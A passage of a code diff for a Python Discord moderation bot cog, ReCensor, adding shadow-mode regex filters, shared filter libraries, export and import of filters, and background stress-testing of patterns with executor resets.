                 joined_cache[jk] = (content, indices) = concat_with_keys(strings, f.multi_msg_join)
 
+            if window is not None and f.name in window.joins[jk].offsets:
+                offsets[f.name] = window.joins[jk].offsets[f.name]
+
+            if f.shadow:  # run first and never stop the pass, see check_message
+                shadow_checks.append((f.name, jk, False))
+                shadowed.append((f, indices, content))
+                continue
+
             # Don't stop immediately on white
             stop_on_match = f.override or not f.mode
-            predicate = partial(check_match_iter, f.compiled.finditer) if f.mode else f.predicate
-            checks.append((f.name, predicate, content, stop_on_match))
+            checks.append((f.name, jk, stop_on_match))
             checked.append((f, indices, content))
 
-        matches = await self.cog.bot.loop.run_in_executor(self.cog.executor, check_matches, checks)
+        if not (checks or shadow_checks):
+            return None, set(), None
+
+        checks = shadow_checks + checks
+        checked = shadowed + checked
+        contents = {k: v[0] for k, v in joined_cache.items()}
+        matches = await self.run_checks(checks, contents, offsets)
+
+        if window is not None:
+            window.update_offsets(filterset, checks, matches, contents, snapshots)
+
         whites_checked = []
         matched_message_set = set()
         message_set = set(messages)
@@ -929,6 +2447,25 @@ class ServerConfig(FilterBase):
                 if f.mode:
                     new_wlc.append((match_messages[0].id, match_messages[-1].id))
 
+            if f.shadow:
+                # The window is checked again for every message, so only report what includes a new one
+                wlc_key = (first_msg.channel.id, first_msg.author.id)
+                reported = f.mm_shadow_reported_cache.get(wlc_key, set())
+
+                if f.mode:
+                    hit_ids = set() if f.override else {m.id for m in message_set - matched_message_set}
+                else:
+                    hit_ids = {m.id for m in matched_message_set}
+
+                if hit_ids - reported:
+                    excerpt = content if f.mode else content[spans[0][0]:spans[-1][1]]
+                    self.record_shadow(f, messages[-1], excerpt)
+
+                if hit_ids or wlc_key in f.mm_shadow_reported_cache:
+                    f.mm_shadow_reported_cache[wlc_key] = (reported | hit_ids).intersection(m.id for m in messages)
+
+                continue
+
             if matched_message_set and f.mode:
                 wlc_key = (first_msg.channel.id, first_msg.author.id)
                 to_delete -= matched_message_set
@@ -973,6 +2510,8 @@ class ServerConfig(FilterBase):
             'priv_exempt'  : self.priv_exempt,
             'channels_list': self.channels_list.to_json(),
             'roles_list'   : self.roles_list.to_json(),
+            'libraries'    : sorted(self.libraries),
+            'flash_rate'   : self.flash_rate,
             'filters'      : {k: v.to_json() for k, v in self.filters.items()}
         }
 
@@ -980,8 +2519,9 @@ class ServerConfig(FilterBase):
 class Filter(FilterBase):
     __slots__ = ['parent', 'name', 'pattern', 'flags', 'mode', 'enabled', 'override', 'asciify', 'position',
                  'channels_list', 'roles_list', 'priv_exempt', 'multi_msg', 'links', 'attachment_header',
-                 'multi_msg_group', 'multi_msg_join', '_predicate', '_compiled', 'mm_white_lastmatch_cache',
-                 'flash_msg', 'flash_dm', 'flash_sec']
+                 'multi_msg_group', 'multi_msg_join', '_predicate', '_compiled', '_literals',
+                 'mm_white_lastmatch_cache', 'mm_shadow_reported_cache', 'flash_msg', 'flash_dm', 'flash_sec',
+                 'stats', 'shadow', 'library']
 
     def __init__(self, parent: ServerConfig, name: str, *, defer_link=False, **data):
         self.parent = parent
@@ -991,6 +2531,7 @@ class Filter(FilterBase):
         self.flags = data.get('flags', DEFAULT_FLAGS)
         self.mode = data.get('mode', False)
         self.enabled = data.get('enabled', False)
+        self.shadow = data.get('shadow', False)
         self.override = data.get('override', False)
         self.priv_exempt = data.get('priv_exempt', None)
         self.multi_msg = data.get('multi_msg', False)
@@ -1003,8 +2544,23 @@ class Filter(FilterBase):
         self.flash_sec = data.get('flash_sec', 5)
 
         self.position = POSITION(data.get('position', POSITION.ANYWHERE))
-        self.rebuild_predicate()
+
+        # (library name, entry), as long as this filter follows a FilterLibrary template
+        self.library = tuple(data['library']) if data.get('library') else None
+        template = self.template
+
+        if template:
+            self.pattern = template['pattern']
+            self.flags = template.get('flags', DEFAULT_FLAGS)
+        else:  # the library or entry is gone, keep the last copy
+            self.library = None
+
+        self._predicate = None  # compiled on first use, or by ReCensor.warm_up
+        self._compiled = None
+        self._literals = None
+        self.stats = FilterStats()
         self.mm_white_lastmatch_cache = {}
+        self.mm_shadow_reported_cache = {}
 
         self.links = {}
 
@@ -1040,26 +2596,52 @@ class Filter(FilterBase):
 
         setattr(self, list_name, list_val)
 
-    def rebuild_predicate(self):
+    @property
+    def template(self) -> Optional[dict]:
+        """
+        The FilterLibrary template this filter follows, if any
+        """
+        if not self.library:
+            return None
+
+        library = self.parent.cog.libraries.get(self.library[0])
+        return library and library.templates.get(self.library[1])
+
+    def rebuild_predicate(self):
+        template = self.template
+        shared = template and template['pattern'] == self.pattern and \
+            template.get('flags', DEFAULT_FLAGS) == self.flags
+
+        if not shared:
+            self.library = None  # changed here, so it no longer follows the library
+
         try:
-            self._compiled = compiled = re.compile(self.pattern, flags_to_int(self.flags))
+            if shared:
+                self._compiled = compiled = shared_pattern(self.pattern, flags_to_int(self.flags))
+            else:
+                self._compiled = compiled = re.compile(self.pattern, flags_to_int(self.flags))
         except re.error:
-            logger.exception("error building predicate for pattern '%s' and flags %i"
+            logger.exception("error building predicate for pattern '%s' and flags %s"
                              % (self.pattern, self.flags))
+            if self._predicate:  # don't invalidate on every retry of a broken pattern
+                self.parent.invalidate()
+
             self._predicate = False
             self._compiled = None
+            self._literals = None
             return False, None
 
-        if self.position == POSITION.START:
-            match_func = compiled.match
-        elif self.position == POSITION.FULL:
-            match_func = compiled.fullmatch
-        elif self.position == POSITION.ANYWHERE:
-            match_func = compiled.search
+        if shared:
+            match_func = SharedMatch(self.pattern, flags_to_int(self.flags), self.position)
         else:
-            raise ValueError("Unknown position value: %s" % self.position)
+            match_func = get_match_func(compiled, self.position)
+
+        # Nothing derived from this filter exists before its first build
+        if self._predicate is not None:
+            self.parent.invalidate()
 
         self._predicate = predicate = partial(check_match, match_func)
+        self._literals = required_literals(compiled)
         return predicate, compiled
 
     @property
@@ -1078,11 +2660,25 @@ class Filter(FilterBase):
 
         return self._compiled
 
+    @property
+    def active(self) -> bool:
+        """
+        True if the filter is run on messages, either enabled or in shadow mode
+        """
+        return self.enabled or self.shadow
+
+    @property
+    def literals(self) -> Optional[Tuple[bool, FrozenSet[str]]]:
+        """
+        Required literals of the pattern as returned by required_literals, or None
+        """
+        return self.compiled and self._literals
+
     def check_meta(self, message: Message, cache=None, debug=False):
         """
         Return True if message is eligible for regex check
         """
-        if not self.enabled:
+        if not self.active:
             if debug:
                 return False, 'disabled'
             return False
@@ -1093,7 +2689,7 @@ class Filter(FilterBase):
         if 'mos' in cache:
             mos = cache['mos']
         else:
-            cache['mos'] = mos = self.parent.cog.is_mod_or_superior(message)
+            cache['mos'] = mos = self.parent.cog.is_privileged(message)
 
         if mos:
             if self.priv_exempt:
@@ -1105,27 +2701,25 @@ class Filter(FilterBase):
                     return False, 'parent priv_exempt'
                 return False
 
-        if self.channels_list in cache:
-            clr = cache[self.channels_list]
-        else:
-            cache[self.channels_list] = clr = self.channels_list.check(message.channel)
+        eligibility = self.parent.eligibility
 
-        if clr is False:
+        if 'channel' not in cache:
+            cache['channel'] = eligibility.for_channel(message.channel)
+
+        if self not in cache['channel']:
             if debug:
                 return False, 'not in channel list'
             return False
 
-        if self.roles_list in cache:
-            rlr = cache[self.roles_list]
-        else:
+        if 'roles' not in cache:
             if isinstance(message.author, discord.Member):
                 role_list = message.author.roles
             else:  # for webhooks, act as if "user" belongs to default role only
                 role_list = [message.server.default_role]
 
-            cache[self.roles_list] = rlr = self.roles_list.check_iter(role_list)
+            cache['roles'] = eligibility.for_roles(role_list)
 
-        if rlr is False:
+        if self not in cache['roles']:
             if debug:
                 return False, 'not in role list'
             return False
@@ -1139,6 +2733,7 @@ class Filter(FilterBase):
             'asciify'           : self.asciify,
             'attachment_header' : self.attachment_header,
             'enabled'           : self.enabled,
+            'shadow'            : self.shadow,
             'flags'             : self.flags,
             'mode'              : self.mode,
             'multi_msg'         : self.multi_msg,
@@ -1153,6 +2748,9 @@ class Filter(FilterBase):
             'flash_sec'         : self.flash_sec
         }
 
+        if self.library:
+            data['library'] = list(self.library)
+
         for k in ['roles_list', 'channels_list']:
             if k in self.links:
                 data[k + '_link'] = self.links[k].name
@@ -1198,7 +2796,7 @@ class Filter(FilterBase):
         #  1 1 0 1
         #  0 1 0 0
         # -1 0 x x
-        if not self.enabled:
+        if not self.active:
             return -1
         elif self.override:
             return 2 + int(not self.mode)
@@ -1228,6 +2826,7 @@ class ReCensor:
     #               'asciify'           : tristate (default null),
     #               'attachment_header' : bool (default false),
     #               'enabled'           : bool (default false),
+    #               'shadow'            : bool (default false),
     #               'flags'             : flags (str containing subset of AILUMSX, default DEFAULT_FLAGS),
     #               'mode'              : bool (default false),
     #               'multi_msg'         : bool (default false),
@@ -1267,22 +2866,54 @@ class ReCensor:
         self.ready = False
 
         self.executor = ExecutorClass()
+        self.validator = ExecutorClass(max_workers=1)
         self.settings = {}
         self.misc_data = {}
+        self._inline_safe = BoundedOrderedDict(maxlen=INLINE_SAFE_CACHE_SIZE)
+        self._safety_queue = []
+        self._safety_task = None
         self._ignore_filters = {}
-        self._message_cache = defaultdict(lambda: BoundedOrderedDict(maxlen=MSG_HISTORY_MAX_NUM))
+        self._privileged = {}
+        self._dirty = set()
+        self._fragments = {}
+        self._save_task = None
+        self._write_lock = threading.Lock()
+        self._save_generation = 0
+        self._written_generation = 0
+        self._message_cache = MessageCache(MSG_CACHE_MAX_BYTES)
+        self._deletions = DeletionQueue(bot)
+        self._flashes = FlashQueue(bot, FlashExpiry(bot, self._deletions))
         self._deleted = BoundedOrderedDict(maxlen=MSG_HISTORY_MAX_NUM)
+        self.startup_times = OrderedDict()
 
+        t0 = time.perf_counter()
         data = dataIO.load_json(JSON_PATH)
         if data.get('_schema_version', 1) < 2:
             data = migrate_data(data)
             dataIO.save_json(JSON_PATH, data)
 
+        # Servers need their libraries to load
+        self.libraries = {k: FilterLibrary(k, v) for k, v in data.pop('_libraries', {}).items()}
+        t1 = time.perf_counter()
+
+        # Patterns are compiled later, see warm_up
         for k, v in data.items():
             if k.startswith('_') or type(v) is not dict or not k.isnumeric():
                 self.misc_data[k] = v
             else:
-                self.settings[k] = ServerConfig(self, **v)
+                self.settings[k] = ServerConfig(self, k, **v)
+                self._dirty.add(k)
+
+        t2 = time.perf_counter()
+
+        if dataIO.is_valid_json(STATS_PATH):
+            self.load_stats(dataIO.load_json(STATS_PATH))
+
+        self.startup_times['load settings'] = t1 - t0
+        self.startup_times['build configs'] = t2 - t1
+        self.startup_times['load stats'] = time.perf_counter() - t2
+        logger.info('loaded %i servers in %.3fs (%s)' % (len(self.settings), time.perf_counter() - t0, ', '.join(
+            '%s: %.3fs' % kv for kv in self.startup_times.items())))
 
         try:
             # noinspection PyUnresolvedReferences
@@ -1311,17 +2942,331 @@ class ReCensor:
         ])
 
         self.ready = True
+        self._stats_task = self.bot.loop.create_task(self.stats_saver())
+        self._sweep_task = self.bot.loop.create_task(self.cache_sweeper())
+        self._warm_up_task = None
+
+        if self.misc_data.get('warm_up', True):
+            self._warm_up_task = self.bot.loop.create_task(self.warm_up())
 
     def __unload(self):
         self.ready = False
+        self._stats_task.cancel()
+        self._sweep_task.cancel()
+
+        if self._warm_up_task:
+            self._warm_up_task.cancel()
+
+        if self._safety_task:
+            self._safety_task.cancel()
+
+        # Queued notifications are sent, and then every notification is deleted right away
+        flushes = self._flashes.flush_all()
+
+        async def final_flush():
+            if flushes:
+                await asyncio.wait(flushes)
+
+            self._flashes.expiry.expire_all()
+            await self._deletions.flush_all()
+
+        self.bot.loop.create_task(final_flush())
         self.executor.shutdown(wait=True)
-        self.save()
+        terminate_executor(self.validator)
+
+        if self._save_task:
+            self._save_task.cancel()
+
+        # waits for a write still running in the writer thread, which can't be cancelled
+        self._save_generation += 1
+
+        try:
+            self.write_settings(self.serialize_settings(), self._save_generation)
+        except Exception:
+            logger.exception('error saving settings')
+
+        self.save_stats()
+
+    async def run_task(self, func, *args, timeout: Optional[float] = None, pool: str = 'executor'):
+        """
+        Runs func(*args) in the executor (or in the validator, if pool is 'validator'). If it doesn't finish
+        within timeout seconds of a worker being free for it or the pool breaks, the executor is replaced and
+        the exception is re-raised.
+
+        Only the executor the job was submitted to is replaced, so jobs failing because an earlier
+        reset broke their pool don't take down its replacement as well.
+        """
+        executor = getattr(self, pool)
+
+        try:
+            # jobs start in order, so this one has a worker once enough of the ones before it finished
+            counts = _executor_jobs.setdefault(executor, [0, 0])
+            finished_before_start = counts[0] - getattr(executor, '_max_workers', 1) + 1
+            counts[0] += 1
+
+            def count_finished(_):
+                counts[1] += 1
+
+            future = asyncio.wrap_future(executor.submit(func, *args), loop=self.bot.loop)
+            future.add_done_callback(count_finished)
+
+            while timeout is not None and counts[1] < finished_before_start and not future.done():
+                await asyncio.wait([future], timeout=EXECUTOR_POLL_INTERVAL)
+
+            return await asyncio.wait_for(future, timeout)
+        except (asyncio.TimeoutError, BrokenProcessPool):
+            if getattr(self, pool) is executor:
+                self.reset_executor(pool)
+
+            raise
+
+    def reset_executor(self, pool: str = 'executor'):
+        """
+        Replaces the executor (or validator), killing any worker processes stuck on a pattern
+        """
+        logger.warning('replacing %s' % pool)
+        old_executor = getattr(self, pool)
+        setattr(self, pool, ExecutorClass(max_workers=getattr(old_executor, '_max_workers', None)))
+        terminate_executor(old_executor)
+
+    async def check_filter(self, _filter: 'Filter', content: str) -> List[dict]:
+        """
+        Runs one filter's predicate on content in the executor, with the budget of a message check.
+        Returns its result dicts (one, or one per match for multi-message whitelists); a run that doesn't
+        finish gives a FilterTimeout exception, as in check_filterset.
+        """
+        try:
+            ret = await self.run_task(check_predicate, _filter.predicate, content,
+                                      timeout=FILTER_TIME_BUDGET + EXECUTOR_GRACE)
+        except (asyncio.TimeoutError, BrokenProcessPool):
+            ret = {'exception': FilterTimeout(), 'time': FILTER_TIME_BUDGET}
+
+        return ret if type(ret) is list else [ret]
+
+    async def validate_filters(self, filters: Sequence[dict]) -> List[Optional[str]]:
+        """
+        Runs validate_filter for each of filters (as in Filter.to_json) in one job on the validator, so
+        stress tests never hold up or reset the executor checking messages. If the job doesn't complete,
+        the filters are retried one at a time to find the culprit.
+        """
+        try:
+            return await self.run_task(validate_filters, filters, timeout=EXECUTOR_GRACE + VALIDATION_TIME *
+                                       len(filters), pool='validator')
+        except (asyncio.TimeoutError, BrokenProcessPool):
+            if len(filters) == 1:
+                return ['stress test did not complete']
+
+        results = []
+
+        for data in filters:
+            results.extend(await self.validate_filters([data]))
+
+        return results
+
+    def is_inline_safe(self, key: Tuple[str, str, POSITION]) -> bool:
+        """
+        Returns whether a (pattern, flags, position) passed the stress test, and so can be trusted to run
+        on the event loop. Untested patterns are queued to be tested in the background.
+        """
+        if key not in self._inline_safe:
+            self._inline_safe[key] = None
+            self._safety_queue.append(key)
+
+            if self._safety_task is None or self._safety_task.done():
+                self._safety_task = self.bot.loop.create_task(self.safety_tester())
+
+        return bool(self._inline_safe[key])
+
+    async def safety_tester(self):
+        """
+        Stress tests the patterns queued by is_inline_safe, all the ones queued so far in each job
+        """
+        while self._safety_queue:
+            keys, self._safety_queue = self._safety_queue, []
+            filters = [{'pattern': pattern, 'flags': flags, 'position': position}
+                       for pattern, flags, position in keys]
+
+            for key, problem in zip(keys, await self.validate_filters(filters)):
+                self._inline_safe[key] = problem is None
+
+                if problem:
+                    logger.info('pattern %r will only run in the executor: %s' % (key[0], problem))
+
+    async def say_paged(self, text: str, header: str = ''):
+        """
+        Says text in code blocks, split at line breaks to stay within Discord's message length. header
+        is sent before the first block.
+        """
+        for page in pagify(text, shorten_by=len(header) + 10):
+            await self.bot.say(header + box(page))
+            header = ''
+
+    def save(self, server_id: Optional[str] = None):
+        """
+        Marks a server's settings (or every server's, if server_id is None) as changed and schedules
+        a write, see schedule_save.
+        """
+        if server_id is None:
+            self._dirty.update(self.settings)
+        else:
+            self._dirty.add(server_id)
+
+        self.schedule_save()
+
+    def schedule_save(self):
+        """
+        Schedules a write, which happens SAVE_DELAY seconds later so that bursts of changes are written
+        once. misc_data and the libraries are serialized on every write, so changes to only those don't
+        need any server marked as changed.
+        """
+        if self._save_task is None or self._save_task.done():
+            self._save_task = self.bot.loop.create_task(self.settings_writer())
+
+    def serialize_settings(self) -> str:
+        """
+        Returns the contents of JSON_PATH, only serializing servers that changed since the last call
+        """
+        for server_id in self._dirty:
+            if server_id in self.settings:
+                self._fragments[server_id] = json.dumps(self.settings[server_id].to_json())
+
+        self._dirty.clear()
+
+        for server_id in set(self._fragments).difference(self.settings):
+            del self._fragments[server_id]
 
-    def save(self):
         data = {'_schema_version': 2}
         data.update(self.misc_data)
-        data.update({k: v.to_json() for k, v in self.settings.items()})
-        dataIO.save_json(JSON_PATH, data)
+
+        if self.libraries:
+            data['_libraries'] = {k: v.to_json() for k, v in self.libraries.items()}
+        fragments = [json.dumps(k) + ': ' + json.dumps(v) for k, v in data.items()]
+        fragments.extend(json.dumps(k) + ': ' + v for k, v in self._fragments.items())
+        return '{' + ',\n'.join(fragments) + '}'
+
+    async def settings_writer(self):
+        await asyncio.sleep(SAVE_DELAY)
+        self._save_task = None  # changes from here on schedule another write
+        text = self.serialize_settings()
+        self._save_generation += 1
+
+        try:
+            await self.bot.loop.run_in_executor(None, self.write_settings, text, self._save_generation)
+        except Exception:
+            logger.exception('error saving settings')
+
+    def write_settings(self, text: str, generation: int):
+        """
+        Writes serialized settings to JSON_PATH, unless a later serialization (higher generation) was
+        already written. Runs in the writer thread, or in the main one on unload, so writes are serialized
+        with a thread lock.
+        """
+        with self._write_lock:
+            if generation > self._written_generation:
+                write_atomic(JSON_PATH, text)
+                self._written_generation = generation
+
+    def update_library(self, library: FilterLibrary, entry: str):
+        """
+        Applies a changed, added or removed library template to every subscribed server
+        """
+        template = library.templates.get(entry)
+
+        for server_id, settings in self.settings.items():
+            if library.name not in settings.libraries:
+                continue
+
+            followers = [f for f in settings.library_filters(library.name) if f.library[1] == entry]
+
+            if not template:
+                for f in followers:
+                    f.library = None
+            elif followers:
+                for f in followers:
+                    f.pattern = template['pattern']
+                    f.flags = template.get('flags', DEFAULT_FLAGS)
+                    f.rebuild_predicate()
+            else:
+                try:
+                    settings.add_library_filter(library, entry)
+                except ValueError:
+                    logger.warning('server %s has a filter named %s, not adding it from library %s'
+                                   % (server_id, library.filter_name(entry), library.name))
+
+            self.save(server_id)
+
+    def load_stats(self, data: dict):
+        for server_id, filter_stats in data.items():
+            server_conf = self.settings.get(server_id)
+
+            if not server_conf:
+                continue
+
+            for name, stats in filter_stats.items():
+                if name in server_conf.filters:
+                    server_conf.filters[name].stats = FilterStats(**stats)
+
+    def save_stats(self):
+        data = {}
+
+        for server_id, server_conf in self.settings.items():
+            filter_stats = {k: f.stats.to_json() for k, f in server_conf.filters.items() if f.stats.evaluations or
+                            f.stats.skips}
+            if filter_stats:
+                data[server_id] = filter_stats
+
+        dataIO.save_json(STATS_PATH, data)
+
+    async def stats_saver(self):
+        while self is self.bot.get_cog('ReCensor'):
+            await asyncio.sleep(STATS_SAVE_INTERVAL)
+
+            try:
+                self.save_stats()
+            except Exception:
+                logger.exception('error saving filter statistics')
+
+    async def warm_up(self):
+        """
+        Compiles every server's filters in the background, one at a time, so the first message in each
+        server doesn't have to. Servers that already got a message are skipped.
+        """
+        await asyncio.sleep(WARM_UP_DELAY)
+        elapsed = 0
+        compiled = 0
+
+        for settings in list(self.settings.values()):
+            if settings._filterset is not None:
+                continue
+
+            for f in list(settings.order):
+                t0 = time.perf_counter()
+                f.predicate
+                elapsed += time.perf_counter() - t0
+                await asyncio.sleep(0)
+
+            t0 = time.perf_counter()
+            settings.filterset
+            elapsed += time.perf_counter() - t0
+            compiled += 1
+            await asyncio.sleep(0)
+
+        self.startup_times['warm up'] = elapsed
+        logger.info('compiled filters for %i servers in %.3fs' % (compiled, elapsed))
+
+    async def cache_sweeper(self):
+        while self is self.bot.get_cog('ReCensor'):
+            await asyncio.sleep(MSG_CACHE_SWEEP_INTERVAL)
+
+            try:
+                removed = self._message_cache.sweep()
+            except Exception:
+                logger.exception('error sweeping the message cache')
+                continue
+
+            if removed:
+                logger.debug('swept %i message histories, %i remaining using about %i bytes'
+                             % (removed, len(self._message_cache), self._message_cache.size))
 
     @commands.group(name='recensor', pass_context=True, invoke_without_command=True, no_pm=True, rest_is_raw=True)
     @checks.mod_or_permissions(manage_messages=True)
@@ -1458,6 +3403,9 @@ class ReCensor:
                     if obj.multi_msg_group:
                         params['Multi-message'] += ', group #%i' % obj.multi_msg_group
 
+                if obj.shadow:
+                    params['Mode'] += ' (shadow)'
+
                 if obj.priv_exempt is None:
                     params['Privilege exempt'] = 'inherited (%s)' % ('yes' if obj.parent.priv_exempt else 'no')
 
@@ -1544,7 +3492,7 @@ class ReCensor:
             await self.bot.say(name_check)
             return
         elif not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
 
         if pattern:
             try:
@@ -1573,7 +3521,7 @@ class ReCensor:
             await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
             return
 
-        self.save()
+        self.save(server.id)
         await self.bot.say(info('Filter created%s. Configure it with `%srecensor %s [setting] [options]`'
                                 % (desc, ctx.prefix, name)))
 
@@ -1598,7 +3546,7 @@ class ReCensor:
                 await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
                 return
 
-            self.save()
+            self.save(server.id)
             await self.bot.say(info("Filter deleted."))
 
     @recensor.command(pass_context=True, name='rename')
@@ -1626,7 +3574,7 @@ class ReCensor:
             await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
             return
 
-        self.save()
+        self.save(server.id)
         await self.bot.say(info("Successfully renamed '%s' to '%s'." % (name, new_name)))
 
     @recensor.command(pass_context=True, name='copy')
@@ -1656,9 +3604,324 @@ class ReCensor:
             await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
             return
 
-        self.save()
-        list_op = 'linked' if linked else 'duplicated'
-        await self.bot.say(info("Created a copy of '%s' named '%s' with %s lists." % (name, new_name, list_op)))
+        self.save(server.id)
+        list_op = 'linked' if linked else 'duplicated'
+        await self.bot.say(info("Created a copy of '%s' named '%s' with %s lists." % (name, new_name, list_op)))
+
+    @recensor.command(pass_context=True, name='export')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_export(self, ctx, *filter_names: str):
+        """
+        Exports filters to a file for [p]recensor import
+
+        Exports all of this server's filters if none are named. Links to filters that aren't exported
+        are kept by name, so those filters must already exist wherever the file is imported.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        names = [n.lower() for n in filter_names] or sorted(settings.filters if settings else ())
+        missing = [n for n in names if not (settings and n in settings.filters)]
+
+        if not names:
+            await self.bot.say(info('There are no filters in this server to export.'))
+            return
+        elif missing:
+            await self.bot.say(warning('No such filter(s): %s' % ', '.join(missing)))
+            return
+
+        data = {
+            'recensor_version' : __version__,
+            'filters'          : {n: settings.filters[n].to_json() for n in names}
+        }
+
+        buf = io.BytesIO(json.dumps(data, indent=4, sort_keys=True).encode())
+        await self.bot.upload(buf, filename='recensor_%s.json' % server.id,
+                              content='Exported %i filter(s).' % len(names))
+
+    @recensor.command(pass_context=True, name='import')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_import(self, ctx, overwrite: bool = False):
+        """
+        Imports filters from a JSON or YAML file attached to the command
+
+        The format is the one written by [p]recensor export. Every filter's settings are checked and its
+        pattern is stress tested in the background before anything changes. If any filter has a problem,
+        nothing is imported. Existing filters with the same names are only replaced if overwrite is yes.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        attachments = ctx.message.attachments
+        is_yaml = attachments and attachments[0]['filename'].lower().endswith(('.yml', '.yaml'))
+
+        if not attachments:
+            await self.bot.say(warning('Attach a file exported with `%srecensor export` to the command.'
+                                       % ctx.prefix))
+            return
+        elif attachments[0].get('size', 0) > IMPORT_MAX_BYTES:
+            await self.bot.say(error('That file is too large (limit: %i KiB).' % (IMPORT_MAX_BYTES // 1024)))
+            return
+        elif is_yaml and not yaml:
+            await self.bot.say(error('The `pyyaml` package is not installed on the bot, so only JSON files '
+                                     'can be imported.'))
+            return
+
+        try:
+            async with aiohttp.ClientSession() as session:
+                async with session.get(attachments[0]['url']) as response:
+                    raw = await response.read()
+
+            data = yaml.safe_load(raw) if is_yaml else json.loads(raw.decode('utf-8'))
+        except Exception as e:
+            await self.bot.say(error('Error reading the file:\n') + box('%s: %s' % (e.__class__.__name__, e)))
+            return
+
+        if isinstance(data, dict) and isinstance(data.get('filters'), dict):
+            data = data['filters']
+        else:
+            await self.bot.say(error('The file has no `filters` section.'))
+            return
+
+        filters = {}
+        problems = []
+
+        for name, filter_data in data.items():
+            name_check = type(name) is str and self.check_name(ctx, name)
+
+            if type(name) is not str or not name:
+                problems.append('%r: filter names must be text' % name)
+            elif name_check:
+                problems.append('%s: %s' % (name, name_check))
+            elif name.lower() in filters:
+                problems.append('%s: duplicate name' % name)
+            elif settings and name.lower() in settings.filters and not overwrite:
+                problems.append('%s: already exists (use `%srecensor import yes` to overwrite)'
+                                % (name, ctx.prefix))
+            else:
+                problems.extend('%s: %s' % (name, p) for p in check_filter_data(filter_data))
+                filters[name.lower()] = filter_data
+
+        if not (filters or problems):
+            await self.bot.say(info('The file has no filters.'))
+            return
+        elif not problems:
+            await self.bot.type()
+            results = await self.validate_filters(list(filters.values()))
+            problems.extend('%s: %s' % (name, result) for name, result in zip(filters, results) if result)
+
+        if problems:
+            msg = error('Nothing was imported, because of the following problem(s):')
+            await self.say_paged('\n'.join(problems), header=msg)
+            return
+
+        # Build a complete new config in one go, so links are resolved and the order is set once
+        old_data = settings.to_json() if settings else {}
+        new_data = dict(old_data, filters=dict(old_data.get('filters', {}), **filters))
+
+        try:
+            new_settings = ServerConfig(self, server.id, **new_data)
+        except Exception as e:
+            await self.bot.say(error('Nothing was imported, because the filters could not be loaded:\n') +
+                               box('%s: %s' % (e.__class__.__name__, e)))
+            return
+
+        if settings:
+            for name, f in settings.filters.items():
+                if name not in filters:
+                    new_settings.filters[name].stats = f.stats
+                    new_settings.filters[name].mm_white_lastmatch_cache = f.mm_white_lastmatch_cache
+                    new_settings.filters[name].mm_shadow_reported_cache = f.mm_shadow_reported_cache
+
+        replaced = [n for n in filters if settings and n in settings.filters]
+        self.settings[server.id] = new_settings
+        self.save(server.id)
+        await self.bot.say(info('Imported %i filter(s)%s.' % (len(filters), (', replacing %s' % ', '.join(replaced))
+                                                               if replaced else '')))
+
+    @recensor.group(pass_context=True, name='library', aliases=['lib'])
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_library(self, ctx):
+        """
+        Shared filter libraries
+
+        Libraries are sets of filters kept by the bot owner for use in many servers. Subscribing adds a
+        disabled copy of each of a library's filters, named library.filter, to this server. Their patterns
+        and flags follow the library, but everything else (enabled, mode, lists, ...) is set per server.
+        Changing the pattern or flags of one here detaches it from the library.
+        """
+        if ctx.invoked_subcommand is None:
+            return await self.bot.send_cmd_help(ctx)
+
+    @recensor_library.command(pass_context=True, name='list')
+    async def recensor_library_list(self, ctx):
+        """
+        Lists the available libraries
+        """
+        settings = self.settings.get(ctx.message.server.id)
+
+        if not self.libraries:
+            await self.bot.say(info('There are no filter libraries.'))
+            return
+
+        lines = []
+
+        for name, library in sorted(self.libraries.items()):
+            subscribed = settings and name in settings.libraries
+            lines.append('%s: %i filter(s)%s' % (name, len(library.templates), ' (subscribed)' if subscribed else ''))
+
+        await self.bot.say(box('\n'.join(lines)))
+
+    @recensor_library.command(pass_context=True, name='show')
+    async def recensor_library_show(self, ctx, library_name: str):
+        """
+        Shows the filters in a library
+        """
+        library = self.libraries.get(library_name.lower())
+
+        if not library:
+            await self.bot.say(warning('There is no library named "%s".' % library_name.lower()))
+            return
+
+        lines = []
+
+        for entry, template in sorted(library.templates.items()):
+            lines.append('%s (%s, flags %s): %s' % (entry, 'white' if template.get('mode') else 'black',
+                                                    template.get('flags', DEFAULT_FLAGS) or '-', template['pattern']))
+
+        await self.say_paged('\n'.join(lines))
+
+    @recensor_library.command(pass_context=True, name='add')
+    @checks.is_owner()
+    async def recensor_library_add(self, ctx, library_name: str, filter_name: str, entry: str = None):
+        """
+        Adds a filter from this server to a library, or replaces one
+
+        The library is created if it doesn't exist. entry is the name of the filter within the library,
+        and defaults to the filter's name. Subscribed servers get the new filter disabled, or the new
+        pattern and flags if it replaces one.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        library_name = library_name.lower()
+        name = filter_name.lower()
+        entry = (entry or name).lower()
+        _filter = settings and settings.get_filter(name)
+
+        if not _filter:
+            await self.bot.say(warning('There is no filter named "%s" in this server.' % name))
+            return
+        elif re.search(r'[\s.]', library_name + entry):
+            await self.bot.say(warning('Library and entry names cannot contain whitespace or periods.'))
+            return
+
+        library = self.libraries.get(library_name)
+
+        if not library:
+            self.libraries[library_name] = library = FilterLibrary(library_name)
+
+        adj = 'replaced in' if entry in library.templates else 'added to'
+        library.set_template(entry, _filter)
+        self.update_library(library, entry)
+        self.save(server.id)
+        await self.bot.say('%s was %s library %s as %s.' % (_filter.name, adj, library.name, entry))
+
+    @recensor_library.command(pass_context=True, name='remove')
+    @checks.is_owner()
+    async def recensor_library_remove(self, ctx, library_name: str, entry: str):
+        """
+        Removes a filter from a library
+
+        Subscribed servers keep their copies, which no longer follow the library. The library is deleted
+        along with its last filter.
+        """
+        library = self.libraries.get(library_name.lower())
+        entry = entry.lower()
+
+        if not (library and entry in library.templates):
+            await self.bot.say(warning('There is no filter named "%s" in that library.' % entry))
+            return
+
+        del library.templates[entry]
+        self.update_library(library, entry)
+
+        if not library.templates:
+            del self.libraries[library.name]
+
